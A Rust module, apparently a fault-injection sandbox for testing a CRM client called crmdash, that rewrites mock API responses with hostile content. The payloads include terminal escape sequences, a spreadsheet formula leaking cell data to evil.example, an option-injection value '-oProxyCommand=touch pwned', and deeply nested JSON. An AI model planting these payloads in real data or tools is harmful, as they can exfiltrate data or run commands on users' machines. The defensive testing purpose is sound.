//! Hostile answers, for showing what crmdash does with a service that attacks its client:
//! records whose text carries escape sequences, spreadsheet formulas or option-like values,
//! records nested far deeper than any real one, one id listed twice, a token echoed back in
//! an error message, list pages that never end. Each is a fault kind (`faults::FaultKind`).

use axum::body::{Body, to_bytes};
use axum::extract::Request;
use axum::http::{HeaderValue, StatusCode, header};
use axum::middleware::Next;
use axum::response::{IntoResponse, Response};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};

/// What a `hostile` fault puts into the records of the handler's answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HostileShape {
    /// Name fields (`first_name`, `last_name`, `name`, `title`) carry terminal escape
    /// sequences (an OSC 52 clipboard write, a screen clear, a title change, a hyperlink),
    /// a bidi override and a zero-width space.
    Escapes,
    /// Name fields are spreadsheet formulas (`=HYPERLINK(...)`, `@SUM(...)`).
    Formulas,
    /// `custom_fields.server` is `-oProxyCommand=touch pwned`: a value that reads as an option.
    OptionValues,
    /// `custom_fields.deep` is an array nested `depth` levels deep.
    Deep,
    /// The first record of a list is listed again at the end, its name changed (a stale copy).
    RepeatedIds,
}

/// The escape-laden text of [`HostileShape::Escapes`].
pub const ESCAPES: &str = "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]8;;http://evil.example/\u{7}Eve\u{1b}]8;;\u{7}\u{202e}txt.exe\u{200b}";
/// The formula of [`HostileShape::Formulas`].
pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
/// The option-like value of [`HostileShape::OptionValues`].
pub const OPTION_VALUE: &str = "-oProxyCommand=touch pwned";
/// Depth of [`HostileShape::Deep`] when none is given.
pub const DEFAULT_DEPTH: usize = 100_000;

const NAME_FIELDS: [&str; 4] = ["first_name", "last_name", "name", "title"];
const DEEP_MARK: &str = "\u{0}crmdash-deep\u{0}";

/// The records of an answer: `data` (a list or one record) or a bare array.
fn records(v: &mut Value) -> Vec<&mut Map<String, Value>> {
    let envelope = v.as_object().is_some_and(|o| o.contains_key("data"));
    let list = if envelope { v.get_mut("data") } else { Some(v) };
    match list {
        Some(Value::Array(a)) => a.iter_mut().filter_map(Value::as_object_mut).collect(),
        Some(Value::Object(o)) => vec![o],
        _ => Vec::new(),
    }
}

fn custom_fields(r: &mut Map<String, Value>) -> &mut Map<String, Value> {
    let slot = r
        .entry("custom_fields")
        .or_insert_with(|| Value::Object(Map::new()));
    if !slot.is_object() {
        *slot = Value::Object(Map::new());
    }
    slot.as_object_mut().expect("an object")
}

/// `body` (the handler's JSON) with `shape` applied; not JSON: unchanged.
pub fn apply(shape: HostileShape, depth: usize, body: &[u8]) -> Vec<u8> {
    let Ok(mut v) = serde_json::from_slice::<Value>(body) else {
        return body.to_vec();
    };
    match shape {
        HostileShape::Escapes | HostileShape::Formulas => {
            let text = if shape == HostileShape::Escapes {
                ESCAPES
            } else {
                FORMULA
            };
            for r in records(&mut v) {
                for f in NAME_FIELDS {
                    if r.get(f).is_some_and(Value::is_string) {
                        r.insert(f.into(), json!(text));
                    }
                }
                custom_fields(r).insert("note".into(), json!(text));
            }
        }
        HostileShape::OptionValues => {
            for r in records(&mut v) {
                custom_fields(r).insert("server".into(), json!(OPTION_VALUE));
            }
        }
        HostileShape::Deep => {
            for r in records(&mut v) {
                custom_fields(r).insert("deep".into(), json!(DEEP_MARK));
            }
        }
        HostileShape::RepeatedIds => {
            if let Some(Value::Array(a)) = v.get_mut("data")
                && let Some(mut copy) = a.first().cloned()
            {
                if let Some(o) = copy.as_object_mut() {
                    for f in NAME_FIELDS {
                        if let Some(Value::String(s)) = o.get_mut(f) {
                            s.push_str(" (stale copy)");
                        }
                    }
                }
                a.push(copy);
            }
        }
    }
    let text = v.to_string();
    if shape != HostileShape::Deep {
        return text.into_bytes();
    }
    // Built as text: a `Value` that deep would overflow the sandbox's own stack.
    let mark = serde_json::to_string(DEEP_MARK).expect("a string");
    let nested = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    text.replace(&mark, &nested).into_bytes()
}

/// The handler's answer with `shape` applied to its records.
pub async fn hostile(shape: HostileShape, depth: usize, req: Request, next: Next) -> Response {
    let (mut parts, body) = next.run(req).await.into_parts();
    let bytes = to_bytes(body, usize::MAX).await.unwrap_or_default();
    let out = apply(shape, depth, &bytes);
    parts
        .headers
        .insert(header::CONTENT_LENGTH, HeaderValue::from(out.len()));
    Response::from_parts(parts, Body::from(out))
}

/// 401 whose message repeats the token the request carried.
pub fn echo_token(req: &Request) -> Response {
    let token = req
        .headers()
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split_once(' '))
        .map(|(_, t)| t.trim().to_string())
        .unwrap_or_default();
    (
        StatusCode::UNAUTHORIZED,
        axum::Json(json!({
            "message": format!("Unauthenticated: the token {token} has expired."),
            "errors": {"token": [format!("{token} is not valid")]},
        })),
    )
        .into_response()
}

/// Pages that never end: every page is answered with page 1's records, claims to be page 1,
/// and says another page follows the one asked for.
pub async fn endless_pages(req: Request, next: Next) -> Response {
    let (mut parts, body) = req.into_parts();
    let asked: u64 = parts
        .uri
        .query()
        .and_then(|q| {
            url::form_urlencoded::parse(q.as_bytes())
                .find(|(k, _)| k == "page")
                .and_then(|(_, v)| v.parse().ok())
        })
        .unwrap_or(1);
    let kept: Vec<(String, String)> = parts
        .uri
        .query()
        .map(|q| {
            url::form_urlencoded::parse(q.as_bytes())
                .filter(|(k, _)| k != "page")
                .map(|(k, v)| (k.into_owned(), v.into_owned()))
                .collect()
        })
        .unwrap_or_default();
    let query = url::form_urlencoded::Serializer::new(String::new())
        .extend_pairs(kept)
        .append_pair("page", "1")
        .finish();
    if let Ok(uri) = format!("{}?{query}", parts.uri.path()).parse() {
        parts.uri = uri;
    }
    let (mut parts, body) = next
        .run(Request::from_parts(parts, body))
        .await
        .into_parts();
    let bytes = to_bytes(body, usize::MAX).await.unwrap_or_default();
    let out = match serde_json::from_slice::<Value>(&bytes) {
        Ok(mut v) => {
            if let Some(meta) = v.get_mut("meta").and_then(Value::as_object_mut) {
                meta.insert("current_page".into(), json!(1));
                meta.insert("last_page".into(), json!(asked + 1));
                meta.insert("total".into(), json!(u32::MAX));
            }
            v.to_string().into_bytes()
        }
        Err(_) => bytes.to_vec(),
    };
    parts
        .headers
        .insert(header::CONTENT_LENGTH, HeaderValue::from(out.len()));
    Response::from_parts(parts, Body::from(out))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deep_nests_as_text_and_repeated_ids_repeat() {
        let body = br#"{"data":[{"id":"a","first_name":"Ann"}],"meta":{}}"#;
        let deep = String::from_utf8(apply(HostileShape::Deep, 3, body)).unwrap();
        assert!(deep.contains(r#""deep":[[[]]]"#), "{deep}");
        let rep: Value =
            serde_json::from_slice(&apply(HostileShape::RepeatedIds, 0, body)).unwrap();
        assert_eq!(rep["data"][1]["id"], "a");
        assert_eq!(rep["data"][1]["first_name"], "Ann (stale copy)");
        let f: Value = serde_json::from_slice(&apply(HostileShape::Formulas, 0, body)).unwrap();
        assert_eq!(f["data"][0]["first_name"], FORMULA);
    }
}
